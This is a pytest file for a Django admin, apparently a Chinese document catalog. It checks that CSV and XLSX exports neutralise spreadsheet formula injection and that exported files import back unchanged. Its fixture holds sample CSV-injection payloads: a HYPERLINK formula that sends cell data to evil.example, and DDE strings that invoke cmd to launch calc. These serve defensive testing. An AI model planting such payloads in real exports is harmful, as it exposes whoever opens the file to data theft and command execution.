"""Exports neutralise cells a spreadsheet would run as formulas ("CSV injection"), in every
admin that exports: the applications' CSV and the catalog's CSV and XLSX."""

from __future__ import annotations

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

import openpyxl
import pytest

from apps.catalog.models import CatalogEntry
from apps.organs.spreadsheets import FORMULA_STARTS, safe_cell, unescape_cell
from tests.factories import CatalogEntryFactory, GenreFactory, ThemeFactory
from tests.factories.applications import ApplicationFactory

pytestmark = pytest.mark.django_db

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "doc_number": "-2+3+cmd|' /C calc'!A0",
    "summary": "+1+1",
    "keywords": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def runnable(cell) -> bool:
    return isinstance(cell, str) and cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert unescape_cell(safe_cell(f"{start}1+1")) == f"{start}1+1"


def test_other_cells_are_left_alone():
    assert [safe_cell(v) for v in ("关于…的通知", "2024-03-01", "'引用", "", 12, -3, None)] == [
        "关于…的通知",
        "2024-03-01",
        "'引用",
        "",
        12,
        -3,
        None,
    ]
    assert unescape_cell("'引用") == "'引用"


def test_applications_csv_neutralises_formula_cells(client, alice, organ_a):
    application = ApplicationFactory(
        organ=organ_a, actor=alice, applicant_name="=1+2", address="@SUM(A1)牡丹江市东安区太平路88号"
    )
    client.force_login(alice)  # has the personal-data permission: names and addresses in full
    response = client.post(
        reverse("admin:applications_application_changelist"),
        {"action": "export_csv", "_selected_action": [application.pk]},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    exported = dict(zip(rows[0], rows[1], strict=True))
    assert exported["申请人"] == "'=1+2"
    assert exported["通信地址"] == "'@SUM(A1)牡丹江市东安区太平路88号"
    assert exported["查询码"] == application.tracking_code
    assert not any(runnable(cell) for row in rows for cell in row)


@pytest.fixture
def risky_entry(organ_a):
    ThemeFactory()
    GenreFactory(name="通知")
    return CatalogEntryFactory(organ=organ_a, **FORMULAS)


def test_catalog_csv_export_neutralises_formula_cells(client, alice, risky_entry):
    client.force_login(alice)
    response = client.post(reverse("admin:catalog_catalogentry_export"), {"format": "0", "resource": "0"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    exported = dict(zip(rows[0], rows[1], strict=True))
    assert exported["名称"] == "'" + FORMULAS["title"]
    assert exported["发文字号"] == "'" + FORMULAS["doc_number"]
    assert exported["内容概述"] == "'" + FORMULAS["summary"]
    assert exported["关键词"] == "'" + FORMULAS["keywords"]
    assert not any(runnable(cell) for row in rows for cell in row)


def test_catalog_xlsx_export_has_no_formula_cells(client, alice, risky_entry):
    client.force_login(alice)
    response = client.post(reverse("admin:catalog_catalogentry_export"), {"format": "1", "resource": "0"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if runnable(cell.value)]
    titles = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert titles == ["'" + FORMULAS["title"]]


def test_an_exported_file_imports_back_unchanged(client, alice, risky_entry):
    client.force_login(alice)
    exported = client.post(reverse("admin:catalog_catalogentry_export"), {"format": "1", "resource": "0"})
    preview = client.post(
        reverse("admin:catalog_catalogentry_import"),
        {
            "import_file": SimpleUploadedFile("entries.xlsx", exported.content),
            "format": "1",
            "resource": "0",
        },
    )
    confirm_form = preview.context["confirm_form"]
    assert confirm_form is not None, preview.context.get("import_messages")
    data = {name: confirm_form.initial.get(name, "") for name in confirm_form.fields}
    done = client.post(reverse("admin:catalog_catalogentry_process_import"), data, follow=True)
    assert "导入完成：新增 0 条，更新 1 条。" in done.text
    entry = CatalogEntry.objects.get()
    assert {name: getattr(entry, name) for name in FORMULAS} == FORMULAS
